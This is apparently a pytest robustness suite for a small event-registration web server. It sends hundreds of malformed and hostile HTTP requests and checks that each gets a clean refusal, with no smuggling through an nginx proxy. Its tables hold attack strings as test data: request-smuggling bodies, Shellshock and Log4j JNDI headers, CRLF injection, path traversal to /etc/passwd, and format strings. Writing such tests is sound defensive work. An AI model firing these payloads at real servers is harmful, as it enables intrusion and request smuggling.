"""What rude, broken and cunning clients send: a clean refusal, the connection
ended where the framing cannot be trusted, every security field in place, and
never a 5xx, a crash, a hang or a second answer to one request."""
import http.client
import pathlib
import re
import shutil
import signal
import socket
import statistics
import subprocess
import time
import urllib.parse

import pytest

from conftest import MEETING, Site, free_port, wait_for

REGISTER = MEETING + "/register"
FORM = "Content-Type: application/x-www-form-urlencoded"
SAME = "Sec-Fetch-Site: same-origin"
FIELDS = ("date", "content-security-policy", "x-content-type-options",
          "cross-origin-opener-policy", "permissions-policy",
          "referrer-policy")
pytestmark = pytest.mark.direct

CONTROLS = [c for c in range(256) if c < 32 or c == 127]


class Reply:
    def __init__(self, status, fields, body):
        self.status, self.fields, self.body = status, fields, body


class Broken(AssertionError):
    pass


def read_reply(data, head_only):
    """One answer and what follows it; Broken if it is not well formed."""
    head, blank, rest = data.partition(b"\r\n\r\n")
    lines = head.decode("latin-1").split("\r\n")
    line = re.fullmatch(r"HTTP/1\.1 (\d{3}) [\x20-\x7e]+", lines[0])
    if not blank or not line:
        raise Broken(f"no answer: {data[:200]!r}")
    fields = {}
    for text in lines[1:]:
        got = re.fullmatch(r"([!-9;-~]+): ([\x20-\x7e]*)", text)
        if not got or got[1].lower() in fields:
            raise Broken(f"field {text!r}")
        fields[got[1].lower()] = got[2]
    for name in FIELDS:
        if name not in fields:
            raise Broken(f"{line[1]} without {name}")
    status = int(line[1])
    bare = head_only or status == 304
    if fields.get("transfer-encoding") == "chunked":
        raise Broken("a stream where none was asked for")
    length = 0 if bare else int(fields["content-length"])
    if len(rest) < length:
        raise Broken(f"{len(rest)} of {length} bytes")
    return Reply(status, fields, rest[:length]), rest[length:]


def exchange(port, data, end=False, timeout=4.0):
    """All answers to these bytes, and whether the server closed by itself."""
    got = b""
    closed = False
    with socket.create_connection(("127.0.0.1", port), timeout) as s:
        try:
            s.sendall(data)
            if end:
                s.shutdown(socket.SHUT_WR)
        except OSError:
            pass
        s.settimeout(timeout)
        while True:
            try:
                more = s.recv(65536)
            except TimeoutError:
                break
            except ConnectionResetError:
                closed = True
                break
            if not more:
                closed = True
                break
            got += more
            # An answer that leaves the connection open is over by length.
            if b"\r\nConnection: close" not in got and whole(got, data):
                break
    replies = []
    while got:
        reply, got = read_reply(got, data.startswith(b"HEAD "))
        replies.append(reply)
    return replies, closed


def whole(got, sent):
    try:
        return not read_reply(got, sent.startswith(b"HEAD "))[1]
    except (Broken, KeyError, ValueError):
        return False


def get(line="GET / HTTP/1.1", *fields, host="Host: localhost"):
    """A request from text; latin-1, so that any byte can be put in."""
    return "\r\n".join([line, *([host] if host is not None else []), *fields,
                        "", ""]).encode("latin-1")


def post(body, *fields, target=REGISTER, length=None, kind=FORM):
    if isinstance(body, str):
        body = body.encode("latin-1")
    size = len(body) if length is None else length
    return get(f"POST {target} HTTP/1.1", *([kind] if kind else []), SAME,
               f"Content-Length: {size}", *fields) + body


# name -> (bytes, the statuses that are right, whether we end our half)
CASES = {}


def case(name, data, *statuses, end=False):
    assert name not in CASES, name
    CASES[name] = (data, statuses, end)


def request_lines():
    bad = {
        "nothing but blanks": "   ",
        "one word": "GET",
        "two words (0.9)": "GET /",
        "two blanks": "GET  / HTTP/1.1",
        "two blanks before version": "GET /  HTTP/1.1",
        "blank before": " GET / HTTP/1.1",
        "blank behind": "GET / HTTP/1.1 ",
        "tab between": "GET\t/ HTTP/1.1",
        "four words": "GET / x HTTP/1.1",
        "asterisk": "GET * HTTP/1.1",
        "no slash": "GET de/ HTTP/1.1",
        "absolute": "GET http://localhost/de/ HTTP/1.1",
        "absolute https": "GET https://localhost/ HTTP/1.1",
        "absolute foreign": "GET http://evil.example/ HTTP/1.1",
        "absolute upper": "GET HTTP://localhost/ HTTP/1.1",
        "authority": "GET localhost:80 HTTP/1.1",
        "file": "GET file:///etc/passwd HTTP/1.1",
        "javascript": "GET javascript:1 HTTP/1.1",
        "only a query": "GET ?a=b HTTP/1.1",
        "fragment": "GET /de/#x HTTP/1.1",
        "fragment in query": "GET /de/?a#x HTTP/1.1",
        "no version": "GET / HTTP/",
        "version x": "GET / HTTP/x.y",
        "version with three": "GET / HTTP/1.1.1",
        "version with two digits": "GET / HTTP/1.10",
        "version with zero": "GET / HTTP/01.1",
        "lower-case version": "GET / http/1.1",
        "version with a blank": "GET / HTTP /1.1",
        "version minus": "GET / HTTP/-1.1",
        "version plus": "GET / HTTP/1.+1",
        "version comma": "GET / HTTP/1,1",
        "version ICY": "GET / ICY/1.1",
        "quoted target": 'GET "/" HTTPS/1.1',
        "latin-1 in target": "GET /caf\xe9 HTTP/1.1",
        "utf-8 in target": "GET /caf\xc3\xa9 HTTP/1.1",
        "utf-8 in query": "GET /?q=\xc3\xa9 HTTP/1.1",
        "0xff in target": "GET /\xff HTTP/1.1",
        "method with comma": "GE,T / HTTP/1.1",
        "method in quotes": '"GET" / HTTP/1.1',
        "method with colon": "GET: / HTTP/1.1",
        "method in brackets": "(GET) / HTTP/1.1",
        "method in latin-1": "G\xc9T / HTTP/1.1",
        "method missing": " / HTTP/1.1",
    }
    for name, line in bad.items():
        case(f"line: {name}", get(line), 400)
    for version in ("0.9", "1.2", "1.9", "2.0", "3.0", "9.9", "0.0"):
        case(f"version {version}", get(f"GET / HTTP/{version}"), 505)
    for method in ("get", "Get", "post", "PUT", "DELETE", "PATCH", "OPTIONS",
                   "TRACE", "PROPFIND", "MKCOL", "GETX", "GE", "X" * 40,
                   "POSTGET", "LINK", "PURGE", "M-SEARCH", "head"):
        case(f"method {method}", get(f"{method} / HTTP/1.1"), 501)
    case("method connect", get("CONNECT localhost:80 HTTP/1.1"), 400, 501)
    case("method options *", get("OPTIONS * HTTP/1.1"), 400, 501)
    case("method too long", get("G" * 5000 + " / HTTP/1.1"), 414, 501)
    case("http/2 preface", b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n", 505)
    case("simple request", b"GET /\r\n", 400)
    case("simple request, bare", b"GET /\n", 400)
    case("a tls hello", bytes.fromhex("16030100c8010000c40303") + b"\0" * 60,
         400)
    case("smtp", b"EHLO localhost\r\n", 400)
    case("ssh", b"SSH-2.0-OpenSSH_9.2\r\n", 400)
    case("zeros", b"\0" * 400, 400)
    case("0xff", b"\xff" * 400, 400)
    case("two empty lines before", b"\r\n\r\n" + get(), 400)
    case("one empty line before", b"\r\n" + get(), 302)
    case("bare line feed before", b"\n" + get(), 400)
    case("bare cr before", b"\r" + get(), 400)
    case("proxy protocol", b"PROXY TCP4 1.1.1.1 2.2.2.2 1 2\r\n" + get(), 400)
    case("byte order mark", b"\xef\xbb\xbf" + get(), 400)
    case("line feeds only", get().replace(b"\r\n", b"\n"), 400)
    case("carriage returns only", get().replace(b"\r\n", b"\r"), 400)
    case("lf cr", get().replace(b"\r\n", b"\n\r"), 400)
    case("cr cr lf", get().replace(b"\r\n", b"\r\r\n"), 400)
    case("last line bare", get()[:-2] + b"\n", 400)
    case("first line bare", get().replace(b"\r\n", b"\n", 1), 400)
    for size in (2047, 2049, 4000, 16000, 20000, 70000):
        case(f"target of {size}", get(f"GET /{'a' * size} HTTP/1.1"),
             *((404,) if size < 2048 else (414,)))
    case("query of 3000", get(f"GET /?{'a' * 3000} HTTP/1.1"), 414)


def targets():
    odd = {
        "%": 400, "%4": 400, "%zz": 400, "%%": 400, "%2": 400, "%-1": 400,
        "%+1": 400, "% 1": 400, "%0x": 400, "%u0041": 400, "%00": 400,
        "a%00b": 400, "%0d%0aX:y": 400, "%0a": 400, "%0d": 400, "%1b": 400,
        "%7f": 400, "%09": 400, "%08": 400, "%2f": 400, "%2F": 400,
        "%5c": 400, "%5C": 400, "a%2fb": 400, "..": 400, ".": 400,
        "../..": 400, "%2e%2e": 400, "%2E.": 400, ".%2e": 400, "./x": 400,
        "x/../y": 400, "..%2f..": 400, "..%5c..": 400, "%c0%ae%c0%ae": 400,
        "%c0%af": 400, "%e0%80%af": 400, "%f0%80%80%af": 400, "%c1%bf": 400,
        "%ff": 400, "%fe": 400, "%80": 400, "%c3": 400, "%e2%82": 400,
        "%ed%a0%80": 400, "%ed%bf%bf": 400, "%f4%90%80%80": 400,
        "%f8%88%80%80%80": 400, "%fc%84%80%80%80%80": 400, "%c2%80": 400,
        "%c2%9b": 400, "%252e%252e": 404, "%252f": 404, "%25": 404,
        "%2500": 404, "...": 404, "..x": 404, "%20": 404, "%F0%9F%98%80": 404,
        "caf%C3%A9": 404, "cafe%CC%81": 404, "%e2%80%ae": 400,
        "%ef%bb%bf": 400, "%3Cscript%3E": 404, "%27%22": 404, "%3f": 404,
        "%23": 404, "%26": 404, "{}": 404, "|": 404, "^": 404, "<x>": 404,
        '"': 404, "`": 404, ";a=b": 404, "a;b": 404, ":": 404, "@": 404,
        "\\": 404, "\\..\\": 404, "//": 404, "/evil.example": 404,
        "/evil.example/": 404, "\\evil.example": 404, "/evil.example/..": 400,
        "static/": 404, "static/x": 404, "static//": 404,
        "static/..": 400, "static/../x": 400, "static/%2e%2e/x": 400,
        "static/....//": 404, "static/etc/passwd": 404,
        "static/%s%s%n": 400, "%25n%25n%25s": 404, "de/%25n%25s": 404,
        "static/" + "a" * 1900: 404, "/" * 1900: 404, "a/" * 900: 404,
        "calendars/%00.ics": 400, "calendars/.ics": 404,
        "calendars/..ics": 404, "calendars/x.ics.ics": 404,
        "calendars/all.ics/": 301, "calendars/all.ics%20": 404,
        "-/": 404, "-/healthz/": 301, "-/healthz%2f": 400,
        "de": 301, "xx/": 404, "DE/": 404, "d%65/": 200, "de//": 301,
        "de///": 404, "de/;": 404, "de/r/": 200, "de/r/x": 404,
        "de/r/%25": 404, "de/r/" + "A" * 1900: 404, "de/r/a.b.c": 404,
        "de/r/-/cancel": 303, "de/desk/x/y": 303,
        "de/sachsen/x/done/y": 404, "de/sachsen/arbeit-2030/done/x": 404,
        "de/sachsen/arbeit-2030/done/" + "B" * 1800: 404,
    }
    for target, status in odd.items():
        shown = target if len(target) < 60 else target[:50] + "..."
        # Where a made-up link may lead is the pages' matter.
        statuses = ((status,) if status != 303 else (303, 404))
        case(f"target /{shown} ({len(target)})",
             get(f"GET /{target} HTTP/1.1"), *statuses)
    for query in ("q=%", "q=%zz", "q=%00", "q=%ff", "q=%c0%af", "%=%",
                  "q=%0d%0aSet-Cookie:x", "q", "=", "&", "&&&=&=&",
                  "q=" + "%41" * 600, "a[]=b&a[x]=y", "?", "??",
                  "next=//evil.example", "q=%u0041", "page=-1",
                  "page=99999999999999999999", "page=0x10", "page=%31",
                  "lang=../../x"):
        case(f"query {query[:40]}", get(f"GET /de/?{query} HTTP/1.1"),
             200, 400)


def hosts():
    for host in ("evil.example", "localhost.evil.example", "localhost:x",
                 "evil.example:80", "127.0.0.2", "[::2]", "localhost.",
                 "xlocalhost", "localhost%00", "127.1", "0x7f000001",
                 "2130706433", "[::1", "::1", "[::ffff:127.0.0.1]",
                 "localhost:80:80", "localhost#x", "localhost:-1", "localhost:123456",
                 ":80", "[]", "[]:80", "localhost]", "a" * 300):
        case(f"host {host[:40]}", get(host=f"Host: {host}"), 400, 421)
    for host in ("", " ", "local host", "localhost, localhost",
                 "localhost,evil.example", "localhost/", "user@localhost",
                 "http://localhost", "localhost?x",
                 "localhost\\", "localhost\xa0", "\xc3\xa9.example",
                 "localhost;x", '"localhost"', "<localhost>"):
        case(f"host {host!r}", get(host=f"Host: {host}"), 400)
    case("no host", get(host=None), 400)
    case("no host in 1.0", get("GET / HTTP/1.0", host=None), 400)
    case("two hosts", get(host="Host: localhost\r\nHost: localhost"), 400)
    case("two different hosts",
         get(host="Host: localhost\r\nHost: evil.example"), 400)
    case("host and HOST", get(host="Host: localhost\r\nHOST: localhost"), 400)
    case("empty host and host", get(host="Host:\r\nHost: localhost"), 400)
    case("host folded", get(host="Host:\r\n localhost"), 400)
    for name in ("X-Forwarded-Host", "X-Host", "Forwarded",
                 "X-Original-URL", "X-Rewrite-URL", "X-Forwarded-Server"):
        case(f"{name} foreign", get("GET /de/ HTTP/1.1",
                                    f"{name}: evil.example"), 200)
    for value in ("http", "ftp", "", "https, http", "\xff"):
        case(f"forwarded proto {value!r}",
             get("GET /de/ HTTP/1.1", f"X-Forwarded-Proto: {value}"), 200)
    for value in ("8.8.8.8", "x", "", ", ,", "1.2.3.4, ::1", "a" * 2000,
                  "[::1]:80", "999.1.1.1", "\xff", "for=8.8.8.8;by=x",
                  "%s%n", "1.2.3.4\t,5"):
        case(f"forwarded for {value[:20]!r}",
             get("GET /de/ HTTP/1.1", f"X-Forwarded-For: {value}"), 200)


def fields():
    bad = {
        "blank before colon": "X : y",
        "tab before colon": "X\t: y",
        "no colon": "Xy",
        "no name": ": y",
        "only a colon": ":",
        "folded": "X: y\r\n z",
        "folded by tab": "X: y\r\n\tz",
        "first folded": " X: y",
        "name in latin-1": "\xc4: y",
        "name in utf-8": "\xc3\x84: y",
        "name with slash": "X/Y: y",
        "name with at": "X@: y",
        "name in brackets": "[X]: y",
        "name in quotes": '"X": y',
        "name with blank": "X Y: y",
        "name with comma": "X,Y: y",
        "name with equals": "X=Y: y",
        "length with blank": "Content-Length : 0",
        "length folded": "Content-Length:\r\n 0",
        "response line inside": "HTTP/1.1 200 OK",
        "request line inside": "GET / HTTP/1.1",
    }
    for name, text in bad.items():
        case(f"field: {name}", get("GET / HTTP/1.1", text), 400)
    fine = {
        "empty value": "X:", "blanks only": "X:   \t ", "no blank": "X:y",
        "latin-1 in the value": "X: \xe4", "0xff in the value": "X: \xff",
        "odd token": "!#$%&'*+-.^_`|~: y", "long value": "X: " + "a" * 8000,
        "two cookies": "Cookie: a=b\r\nCookie: c=d",
        "cookie of nonsense": "Cookie: ;;;=;==;\"__Host-desk\"=\";",
        "desk cookie of nonsense": "Cookie: __Host-desk=%00%ff<>'\"",
        "long cookie": "Cookie: __Host-desk=" + "A" * 8000,
        "cookie without name": "Cookie: =x",
        "nonsense language": "Accept-Language: ,;q=,*;q=x,de;q=9e9,-,\xff",
        "long language": "Accept-Language: " + "de," * 2500,
        "nonsense coding": "Accept-Encoding: ;q=0,gzip;q=,*;;;q",
        "nonsense accept": "Accept: */*;q=x;;,/",
        "nonsense etag": 'If-None-Match: "',
        "weak etag": 'If-None-Match: W/"x", W/, "a" b, ,',
        "many etags": "If-None-Match: " + '"x",' * 2000,
        "nonsense date": "If-Modified-Since: Mon, 99 Foo 0000 99:99:99 GMT",
        "short date": "If-Modified-Since: x",
        "epoch": "If-Modified-Since: Thu, 01 Jan 1970 00:00:00 GMT",
        "year 9999": "If-Modified-Since: Fri, 31 Dec 1999 23:59:60 GMT",
        "range": "Range: bytes=0-1", "range of nonsense": "Range: x=-,-",
        "many ranges": "Range: bytes=" + "0-1," * 1000,
        "if-range": "If-Range: x\r\nRange: bytes=0-",
        "upgrade": "Upgrade: websocket\r\nConnection: Upgrade",
        "h2c": "Upgrade: h2c\r\nConnection: Upgrade, HTTP2-Settings\r\n"
               "HTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA",
        "connection names host": "Connection: Host, Cookie",
        "connection nonsense": "Connection: ,,;\xff close-x",
        "origin on get": "Origin: https://evil.example",
        "te": "TE: trailers, deflate;q=0.5", "trailer": "Trailer: X",
        "shellshock": "User-Agent: () { :;}; echo x",
        "log4j": "User-Agent: ${jndi:ldap://evil.example/x}",
        "format": "User-Agent: %s%n%x%1000000d", "max-forwards":
        "Max-Forwards: -1", "content-type on get": FORM,
        "length of zero on get": "Content-Length: 0",
    }
    for name, text in fine.items():
        case(f"field is fine: {name}", get("GET /de/ HTTP/1.1", text),
             200, 304)
    for count in (60, 63, 64, 65, 100, 500, 2000):
        case(f"{count} fields", get("GET /de/ HTTP/1.1",
                                    *["X: y"] * (count - 1)),
             200 if count <= 64 else 431)
    case("field of 17 KiB", get("GET / HTTP/1.1", "X: " + "a" * 17000), 431)
    case("name of 17 KiB", get("GET / HTTP/1.1", "X" * 17000 + ": a"), 431)
    case("field of 1 MiB", get("GET / HTTP/1.1", "X: " + "a" * 2**20), 431)
    case("no colon in 20 KiB", get("GET / HTTP/1.1", "X" * 20000), 431)
    for value in ("100-continue", "100-Continue", "x", "", "200-ok"):
        case(f"expect {value!r}", get("POST / HTTP/1.1", "Content-Length: 1",
                                      f"Expect: {value}"), 417)


def controls():
    for c in CONTROLS:
        byte = chr(c)
        places = {
            "first": f"{byte}GET / HTTP/1.1\r\n",
            "in the method": f"G{byte}T / HTTP/1.1\r\n",
            "behind the method": f"GET{byte} / HTTP/1.1\r\n",
            "for the blank": f"GET{byte}/ HTTP/1.1\r\n",
            "in the target": f"GET /a{byte}b HTTP/1.1\r\n",
            "in the query": f"GET /?a{byte}b HTTP/1.1\r\n",
            "in the version": f"GET / HTTP/1.{byte}\r\n",
            "behind the version": f"GET / HTTP/1.1{byte}\r\n",
            "in a name": f"GET / HTTP/1.1\r\nX{byte}Y: z\r\n",
            "before the colon": f"GET / HTTP/1.1\r\nX{byte}: z\r\n",
            "in a value": f"GET / HTTP/1.1\r\nX: y{byte}z\r\n",
            "at the end of a value": f"GET / HTTP/1.1\r\nX: y{byte}\r\n",
        }
        for place, text in places.items():
            fine = c == 9 and "a value" in place
            case(f"byte {c:#04x} {place}",
                 (text + "Host: localhost\r\n\r\n").encode("latin-1"),
                 *((302,) if fine else (400,)))


def lengths():
    for value in ("", " ", "x", "-1", "-0", "+1", "+0", "0x1", "1.0", "1e1",
                  "1 1", "1,1", "1, 1", "0, 0", "1;", '"1"', "\xb9", "1\t1",
                  "NaN", "1_0", "0b1", "--1", "1-", "\xd9\xa1", "1a", ",",
                  "0,", ",0", "1\xa0"):
        case(f"length {value!r}",
             get(f"POST {REGISTER} HTTP/1.1", FORM,
                 f"Content-Length: {value}") + b"x", 400)
    for value in ("65537", "99999999", "999999999", "1000000000",
                  "4294967296", "2147483648", "9223372036854775807",
                  "9223372036854775808", "18446744073709551615",
                  "18446744073709551616", "9" * 100, "9" * 1000,
                  "0" * 10 + "1"):
        case(f"length {value[:30]} ({len(value)})",
             get(f"POST {REGISTER} HTTP/1.1", FORM,
                 f"Content-Length: {value}") + b"x", 413, 400)
    for name, text in {
        "the same twice": "Content-Length: 1\r\nContent-Length: 1",
        "two lengths": "Content-Length: 1\r\nContent-Length: 2",
        "two, upper and lower": "Content-Length: 1\r\nCONTENT-LENGTH: 1",
        "two, the first empty": "Content-Length:\r\nContent-Length: 1",
        "two, zero first": "Content-Length: 0\r\nContent-Length: 1",
    }.items():
        case(f"length: {name}",
             get(f"POST {REGISTER} HTTP/1.1", FORM, text) + b"x", 400)
    case("no length", get(f"POST {REGISTER} HTTP/1.1", FORM), 411)
    case("no length, a body", get(f"POST {REGISTER} HTTP/1.1", FORM) + b"a=b",
         411)
    case("no length, 1.0", get(f"POST {REGISTER} HTTP/1.0", FORM), 411)
    case("get with a body", get("GET / HTTP/1.1", "Content-Length: 3")
         + b"abc", 400)
    case("head with a body", get("HEAD / HTTP/1.1", "Content-Length: 3")
         + b"abc", 400)
    for size in (10, 65536):
        case(f"body that ends early of {size}", post("a", length=size),
             end=True)


CODINGS = ("chunked", "Chunked", "CHUNKED", "identity", "gzip", "x", "",
           "chunked, chunked", "chunked, identity", "identity, chunked",
           "gzip, chunked", "chunked;q=1", " chunked", "\tchunked", "'chunked'",
           '"chunked"', "xchunked", "chunked\xff", "chunk", "cow", "trailers",
           ",chunked", "chunked,")


def codings():
    body = b"0\r\n\r\nGET /smuggled HTTP/1.1\r\nHost: localhost\r\n\r\n"
    for coding in CODINGS:
        for name, length in (("alone", ()), ("length after",
                             (f"Content-Length: {len(body)}",))):
            case(f"coding {coding!r} {name}",
                 get("POST / HTTP/1.1", f"Transfer-Encoding: {coding}",
                     *length) + body, 501)
    for name, lines in {
        "length before": ("Content-Length: 4", "Transfer-Encoding: chunked"),
        "twice": ("Transfer-Encoding: chunked",
                  "Transfer-Encoding: identity"),
        "in upper case": ("TRANSFER-ENCODING: chunked",),
        "no blank": ("Transfer-Encoding:chunked",),
    }.items():
        case(f"coding: {name}", get("POST / HTTP/1.1", *lines) + body, 501)
    for name, line in {
        "blank before colon": "Transfer-Encoding : chunked",
        "folded": "Transfer-Encoding:\r\n chunked",
        "folded name": "X: y\r\n Transfer-Encoding: chunked",
        "vertical tab": "Transfer-Encoding:\x0bchunked",
        "nul": "Transfer-Encoding: chunked\0",
        "bare cr": "X: y\rTransfer-Encoding: chunked",
        "bare lf": "X: y\nTransfer-Encoding: chunked",
        "leading blank": " Transfer-Encoding: chunked",
        "controls in the name": "Transfer\x08-Encoding: chunked",
    }.items():
        case(f"coding: {name}",
             get("POST / HTTP/1.1", "Content-Length: 0", line) + body, 400)
    case("coding on get", get("GET / HTTP/1.1", "Transfer-Encoding: chunked")
         + body, 501)
    case("coding in 1.0", get("POST / HTTP/1.0", "Transfer-Encoding: chunked")
         + body, 501)
    case("length, then more", post("a=b", "Connection: close") + body, 403)
    case("bodyless length and more",
         get("GET / HTTP/1.1", f"Content-Length: {len(body)}") + body, 400)


def forms():
    odd = {
        "nothing": ("", (403, 422)),
        "not a form": ("{\"a\": 1}", (403, 422)),
        "nul": ("a=%00", (400,)), "nul in a name": ("a%00b=c", (400,)),
        "raw nul": ("a=\0", (400,)), "raw nul alone": ("\0", (400,)),
        "raw controls": ("a=\x01\x02\x7f", (400, 403, 422)),
        "raw line end": ("a=b\r\nc=d", (400, 403, 422)),
        "half an escape": ("a=%", (400,)), "a bit more": ("a=%4", (400,)),
        "no hex": ("a=%zz", (400,)), "%u": ("a=%u0041", (400,)),
        "overlong slash": ("a=%c0%af", (400,)),
        "overlong nul": ("a=%c0%80", (400,)),
        "surrogate": ("a=%ed%a0%80", (400,)),
        "beyond unicode": ("a=%f4%90%80%80", (400,)),
        "cut utf-8": ("a=%e2%82", (400,)), "0xff": ("a=%ff", (400,)),
        "raw 0xff": ("a=\xff", (400,)), "raw latin-1": ("a=\xe4", (400,)),
        "bad name": ("%ff=a", (400,)), "no value": ("a", (403, 422)),
        "no name": ("=a", (403, 422)), "only ands": ("&" * 60000, (403, 422)),
        "only equals": ("=" * 3000, (403, 422)),
        "200 fields": ("&".join(["a=b"] * 200), (403, 422)),
        "201 fields": ("&".join(["a=b"] * 201), (413,)),
        "5000 fields": ("&".join(["a=b"] * 5000), (413,)),
        "value of 4 KiB": ("a=" + "b" * 4096, (403, 422)),
        "value of 4 KiB and 1": ("a=" + "b" * 4097, (413,)),
        "value of 60 KiB": ("a=" + "b" * 60000, (413,)),
        "name of 60 KiB": ("b" * 60000 + "=a", (413,)),
        "escaped 60 KiB": ("a=" + "%41" * 20000, (413,)),
        "semicolons": ("a=b;c=d", (403, 422)),
        "plus": ("+=+&+", (403, 422)),
        "array": ("stamp[]=x&stamp[a]=y", (403, 422)),
        "two stamps": ("stamp=x&stamp=y", (403,)),
        "stamp of nonsense": ("stamp=x.y.z", (403,)),
        "huge stamp": ("stamp=" + "9" * 4000, (403,)),
        "negative stamp": ("stamp=-1.AAAA", (403,)),
        "stamp without mac": ("stamp=29000000.", (403,)),
        "stamp is a dot": ("stamp=.", (403,)),
        "stamp in the far future": ("stamp=999999999999." + "A" * 43, (403,)),
    }
    targets = {"register": REGISTER, "sign in": "/de/desk/sign-in",
               "cancel": "/de/r/" + "A" * 43 + "/cancel"}
    for place, target in targets.items():
        for name, (body, statuses) in odd.items():
            # A link that nobody has is told so, whatever comes with it.
            more = (404,) if place == "cancel" else ()
            case(f"form {place}: {name}", post(body, target=target),
                 *statuses, *more)
    for name, kind in {
        "missing": None, "empty": "Content-Type:",
        "json": "Content-Type: application/json",
        "text": "Content-Type: text/plain",
        "multipart": "Content-Type: multipart/form-data; boundary=x",
        "multipart bare": "Content-Type: multipart/form-data",
        "xml": "Content-Type: application/xml",
        "longer": "Content-Type: application/x-www-form-urlencodedx",
        "two in one": "Content-Type: application/json, "
                      "application/x-www-form-urlencoded",
        "nonsense": "Content-Type: \xff;;;=",
    }.items():
        case(f"type {name}", post("--x\r\nContent-Disposition: form-data; "
                                  "name=a\r\n\r\nb\r\n--x--\r\n", kind=kind),
             415)
    case("type with charset", post("a=b", kind=FORM + "; charset=utf-16"),
         403, 415, 422)
    case("body of 64 KiB", post("a" * 65536), 413)
    case("body of 64 KiB and 1", post("a" * 65537), 413)
    case("body of 1 MiB", post("a" * 2**20), 413)
    case("post to a page", post("a=b", target="/de/"), 405)
    case("post to nowhere", post("a=b", target="/nowhere"), 404)
    case("post to a feed", post("a=b", target="/calendars/all.ics"), 405)
    case("get a post", get("GET /de/desk/sign-out HTTP/1.1"), 303, 404, 405)
    case("foreign origin", post("a=b", "Origin: https://evil.example"), 403)
    case("origin with a path", post("a=b", "Origin: http://localhost/x"), 403)
    case("origin in nonsense", post("a=b", "Origin: \xff"), 403)
    case("origin empty", post("a=b", "Origin:"), 403)


for table in (request_lines, targets, hosts, fields, controls, lengths,
              codings, forms):
    table()


def judge(name, port):
    """What is wrong with the answer; None if nothing is."""
    data, statuses, end = CASES[name]
    try:
        replies, closed = exchange(port, data, end)
    except (Broken, KeyError, ValueError) as fault:
        return f"{name}: {fault!r}"
    got = [r.status for r in replies]
    if end:
        return None if closed and all(s == 408 for s in got) else \
            f"{name}: {got}, closed {closed}"
    if not got or len(got) > 1 and b"smuggled" not in data:
        return f"{name}: {got}"
    first = replies[0]
    if first.status not in statuses:
        return f"{name}: {got}, not {statuses}"
    if len(got) > 1:
        return f"{name}: a second answer {got}"
    if first.fields.get("connection") == "close" and not closed:
        return f"{name}: says close and stays"
    if first.status in (400, 411, 413, 414, 415, 417, 421, 431, 501, 505) \
            and not closed:
        return f"{name}: {first.status} leaves the connection open"
    text = first.fields.get("location", "")
    if text and not re.fullmatch(r"/([^/\\].*)?", text):
        return f"{name}: leads to {text}"
    if b"evil.example" in first.body or b"<script>" in first.body:
        return f"{name}: repeats what it was sent"
    return None


def test_every_hostile_request_gets_a_clean_refusal(shared_site):
    assert len(CASES) > 900
    began = time.monotonic()
    faults = [f for f in (judge(n, shared_site.port) for n in CASES) if f]
    assert not faults, "\n".join(faults)
    assert time.monotonic() - began < 60
    assert shared_site.client().get("/de/").status == 200
    log = shared_site.log_text()
    assert "evil.example" not in log and "\x1b" not in log
    assert not re.search(r" 5(00|02|03) \d", log)


NGINX = """
daemon off; worker_processes 1; pid {folder}/nginx.pid;
error_log {folder}/error.log crit;
events {{ worker_connections 256; }}
http {{
  access_log off; large_client_header_buffers 4 64k;
  client_body_temp_path {folder}/body; proxy_temp_path {folder}/proxy;
  fastcgi_temp_path {folder}/f; uwsgi_temp_path {folder}/u;
  scgi_temp_path {folder}/s;
  upstream us {{ server 127.0.0.1:{back}; keepalive 1; }}
  server {{
    listen 127.0.0.1:{front}; underscores_in_headers on;
    ignore_invalid_headers off; client_max_body_size 2m;
    client_header_timeout 1s; client_body_timeout 1s; lingering_close off;
    client_body_buffer_size 2m; # no files: its worker may be nobody
    location / {{
      proxy_pass http://us; proxy_http_version 1.1; proxy_pass_header Date;
      proxy_set_header Connection ""; proxy_set_header Host $http_host;
      proxy_set_header X-Forwarded-For $remote_addr;
      proxy_set_header X-Forwarded-Proto $scheme;
    }}
  }}
}}
"""


@pytest.fixture
def proxy(tmp_path):
    """The site with nginx before it, which keeps one connection to us and
    passes on whatever it does not refuse."""
    assert shutil.which("nginx", path="/usr/sbin:/usr/bin:/sbin:/bin"), \
        "nginx is missing: tools/install-packages test"
    site = Site(tmp_path / "demo").start()
    front = free_port()
    conf = tmp_path / "nginx.conf"
    conf.write_text(NGINX.format(folder=tmp_path, front=front,
                                 back=site.port))
    nginx = subprocess.Popen(["/usr/sbin/nginx", "-p", str(tmp_path), "-c",
                              str(conf)], stdin=subprocess.DEVNULL,
                             stderr=subprocess.DEVNULL)
    try:
        wait_for(lambda: says_ok(front), 20, "nginx")
        yield site, front
    finally:
        nginx.terminate()
        nginx.wait(10)
        site.stop()


def says_ok(port):
    try:
        with socket.create_connection(("127.0.0.1", port), 3) as s:
            s.sendall(get("GET /-/healthz HTTP/1.1", "Connection: close"))
            got = b""
            while more := s.recv(4096):
                got += more
            return got.startswith(b"HTTP/1.1 200 ") and \
                got.endswith(b"\r\n\r\nok\n")
    except OSError:
        return False


def statuses_of(port, data):
    """What comes back until it is quiet."""
    got = b""
    with socket.create_connection(("127.0.0.1", port), 3) as s:
        try:
            s.sendall(data)
            s.shutdown(socket.SHUT_WR)
            while more := s.recv(65536):
                got += more
        except OSError:
            pass
    return [int(n) for n in re.findall(rb"HTTP/1\.[01] (\d{3}) ", got)]


def test_no_request_through_a_proxy_becomes_another(proxy):
    site, front = proxy
    faults = []
    for number, (name, (data, _, end)) in enumerate(CASES.items()):
        # Bodies and lengths all, of what is only a head a part.
        if end or (b"\r\nContent-Length" not in data and
                   b"Transfer" not in data and number % 4):
            continue
        got = statuses_of(front, data)
        if [n for n in got if n in (500, 502, 503, 504)]:
            faults.append(f"{name}: {got}")
        if not says_ok(front):
            faults.append(f"{name}: the next visitor gets something else")
    assert not faults, "\n".join(faults)
    assert site.client().get("/de/").status == 200


@pytest.mark.alone
def test_who_is_registered_cannot_be_told_from_the_time(site):
    action, values = site.filled_form("here@example.org")
    email = next(k for k, v in values.items() if v == "here@example.org")
    site.set_seats(onsite=1000)
    client = http.client.HTTPConnection("127.0.0.1", site.port, timeout=30)

    def took(address):
        body = urllib.parse.urlencode({**values, email: address})
        began = time.perf_counter()
        client.request("POST", action, body, {
            "Content-Type": "application/x-www-form-urlencoded",
            "Sec-Fetch-Site": "same-origin"})
        response = client.getresponse()
        response.read()
        assert response.status == 303
        return (time.perf_counter() - began,
                len(response.getheader("Location")))

    took("here@example.org")
    known, new = zip(*((took("here@example.org"), took(f"n{i:03}@example.org"))
                       for i in range(300)))
